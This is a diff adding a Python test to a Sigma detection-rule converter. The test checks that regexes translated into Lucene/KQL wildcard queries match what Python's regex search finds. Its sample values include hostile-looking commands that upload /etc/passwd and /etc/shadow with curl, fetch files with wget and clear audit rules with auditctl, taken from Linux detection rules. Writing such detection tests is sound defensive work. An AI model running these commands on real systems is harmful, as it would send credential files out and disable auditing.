@@ -795,3 +795,71 @@ def test_generated_regexes_agree_with_python_search(
     # Generated nests of bounded repeats can exceed Lucene's limit; most must run.
     too_complex = _check_against_search(lucene_regex, cases, list(dict.fromkeys(values)))
     assert too_complex <= len(cases) // 5
+
+
+# ---- a regex as KQL's wildcard values (taintsigma.convert.regex_wildcards), in real Lucene --
+# KQL sends a wildcard value on a keyword field as Elasticsearch's `wildcard` query, which is
+# Lucene's WildcardQuery: here each value is written as a query_string wildcard term on the
+# keyword field "v" (every character but letters and digits escaped), ORed, and must accept
+# exactly the values Python's re.search finds.
+
+KQL_REGEX_VALUES = [
+    "wget -O /tmp/x http://h",
+    "wget\t-O\t/tmp/x",
+    "wget -O\n/tmp/x",
+    "wget --output-document=/tmp/x",
+    "wget -o /tmp/x",
+    "wget -O",
+    "-O ",
+    " -O",
+    " -O ",
+    "curl -F a=@/etc/passwd http://h",
+    "curl -T /etc/shadow ftp://h",
+    "curl -d @x http://h",
+    "curl -D x http://h",
+    "curl\u000b-d\u000cx",
+    "curl -f x",
+    "auditctl -D",
+    "auditctl -d",
+    "sshd",
+    "sshd\n",
+    "sudo\nx",
+    "xsshd",
+    "a*b",
+    "ab",
+    "a\nb",
+]
+
+
+def _lucene_wildcard_term(value) -> str:
+    from taintsigma.convert.regex_wildcards import WILDCARD
+
+    return "".join(
+        "*" if c is WILDCARD else c if c.isascii() and c.isalnum() else "\\" + c for c in value
+    )
+
+
+@pytest.mark.parametrize(
+    ("pattern", "flags"),
+    [
+        ("-D", {}),  # proc_creation_lnx_auditctl_clear_rules
+        (r"\s-O\s", {}),  # proc_creation_lnx_wget_download_suspicious_directory
+        (r"\s-[FTd]\s", {}),  # proc_creation_lnx_susp_curl_fileupload
+        ("^(sshd|sudo)$", {}),
+        ("^sudo", {"multiline": True}),
+        (r"a\*b|^ab\Z", {}),
+        ("a.*b", {"dotall": True}),
+    ],
+)
+def test_kql_regex_values_accept_exactly_what_the_search_finds(
+    lucene_regex, pattern: str, flags: dict[str, bool]
+) -> None:
+    from taintsigma.convert.regex_wildcards import regex_to_wildcards
+
+    values = regex_to_wildcards(pattern, **flags)
+    query = "Q\tv:(" + " OR ".join(_lucene_wildcard_term(v) for v in values) + ")"
+    [got] = lucene_regex(KQL_REGEX_VALUES, [query])
+    search = re.compile(pattern, python_flags(flags))
+    expected = {i for i, value in enumerate(KQL_REGEX_VALUES) if search.search(value)}
+    assert expected  # the values exercise the pattern
+    assert got == expected, query
